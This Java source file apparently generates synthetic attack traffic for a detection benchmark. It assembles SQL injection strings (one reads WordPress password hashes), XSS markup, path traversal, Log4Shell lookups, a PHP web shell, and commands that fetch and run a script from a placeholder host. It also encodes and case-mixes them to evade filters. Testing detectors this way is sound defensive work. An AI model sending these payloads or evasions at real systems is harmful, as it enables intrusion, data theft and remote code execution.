package dev.cordon.bench.traffic;

import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.Random;

/** What attackers send where data belongs, put together and disguised anew each time. */
final class Payloads {

    private static final List<String> VALUES = List.of("1", "-1", "hoodie", "0", "999999", "x", "");
    private static final List<String> BREAKS =
            List.of("'", "\"", "')", "'))", "", ")", "%')", "\\'");
    private static final List<String> ENDS = List.of("-- -", "#", "--", "-- wXyZ", "", "/*");
    private static final List<String> MARKUP =
            List.of(
                    "<script>alert(%d)</script>",
                    "\"><img src=x onerror=alert(%d)>",
                    "<svg/onload=alert(document.domain)>",
                    "'-alert(%d)-'",
                    "javascript:alert(%d)//",
                    "<ScRiPt>prompt(%d)</ScRiPt>",
                    "<iframe srcdoc=\"<script>parent.x(%d)</script>\">",
                    "\" autofocus onfocus=confirm(%d) x=\"",
                    "<body onload=alert(%d)>",
                    "<details open ontoggle=alert(%d)>");
    private static final List<String> CODE =
            List.of(
                    "../../../../etc/passwd",
                    "....//....//....//etc/passwd",
                    "/etc/passwd",
                    "..\\..\\..\\windows\\win.ini",
                    "php://filter/convert.base64-encode/resource=wp-config.php",
                    "data://text/plain;base64,PD9waHAgc3lzdGVtKCdpZCcpOw==",
                    ";cat /etc/passwd",
                    "|id",
                    "`id`",
                    "$(curl http://198.51.100.9/x.sh|sh)",
                    "&& wget http://198.51.100.9/a -O /tmp/a",
                    "{{7*7}}",
                    "${jndi:ldap://x.example/a}",
                    "${${lower:j}ndi:rmi://x.example/b}",
                    "<?php system($_GET['c']);?>",
                    "O:8:\"stdClass\":1:{s:1:\"a\";i:1;}",
                    "system('id')",
                    "file:///etc/hosts",
                    "{{config.items()}}",
                    "<%= 7*7 %>");

    private final Random random;

    Payloads(Random random) {
        this.random = random;
    }

    String sql() {
        return one(VALUES) + one(BREAKS) + clause() + one(ENDS);
    }

    private String clause() {
        int n = 1_000 + random.nextInt(9_000);
        return switch (random.nextInt(14)) {
            case 0 -> " AND " + n + "=" + n;
            case 1 -> " AND " + n + "=" + (n + 7);
            case 2 -> " OR " + n + "=" + n;
            case 3 -> " ORDER BY " + (1 + random.nextInt(20));
            case 4 -> " UNION ALL SELECT " + nulls() + ",CONCAT(0x717a,0x" + n + ")";
            case 5 -> " UNION SELECT user_login,user_pass," + nulls() + " FROM wp_users";
            case 6 -> " AND (SELECT " + n + " FROM (SELECT(SLEEP(5)))abcd)";
            case 7 -> " AND EXTRACTVALUE(" + n + ",CONCAT(0x5c,(SELECT version())))";
            case 8 -> " RLIKE (SELECT (CASE WHEN (" + n + "=" + n + ") THEN 1 ELSE 0x28 END))";
            case 9 -> ";SELECT SLEEP(5)";
            case 10 -> " AND (SELECT COUNT(*) FROM information_schema.tables)>" + n;
            case 11 -> " OR 'a'='a";
            case 12 -> " AND ASCII(SUBSTRING((SELECT user()),1,1))>" + n % 128;
            default -> " PROCEDURE ANALYSE(EXTRACTVALUE(" + n + ",CONCAT(0x5c,0x71)),1)";
        };
    }

    private String nulls() {
        return "NULL" + ",NULL".repeat(random.nextInt(9));
    }

    String markup() {
        return one(MARKUP).formatted(random.nextInt(100_000));
    }

    String code() {
        return one(CODE);
    }

    /** As it stands in the log, in one of the disguises that tools offer. */
    String disguised(String payload, int disguise) {
        return switch (disguise) {
            case 0 -> encoded(payload);
            case 1 -> encoded(payload).replace("+", "%20");
            case 2 -> encoded(encoded(payload).replace("+", "%20"));
            case 3 -> encoded(payload.replace(" ", "/**/"));
            case 4 -> encoded(mixedCase(payload));
            case 5 -> encoded(payload.replace(" ", "\t"));
            default -> payload.replace(" ", "%20").replace("\"", "%22").replace("<", "%3C");
        };
    }

    static int disguises() {
        return 7;
    }

    private static String encoded(String text) {
        return URLEncoder.encode(text, StandardCharsets.UTF_8);
    }

    private String mixedCase(String text) {
        var mixed = new StringBuilder();
        text.chars()
                .forEach(
                        c ->
                                mixed.append(
                                        (char)
                                                (random.nextBoolean()
                                                        ? Character.toUpperCase(c)
                                                        : Character.toLowerCase(c))));
        return mixed.toString();
    }

    private String one(List<String> choices) {
        return choices.get(random.nextInt(choices.size()));
    }
}
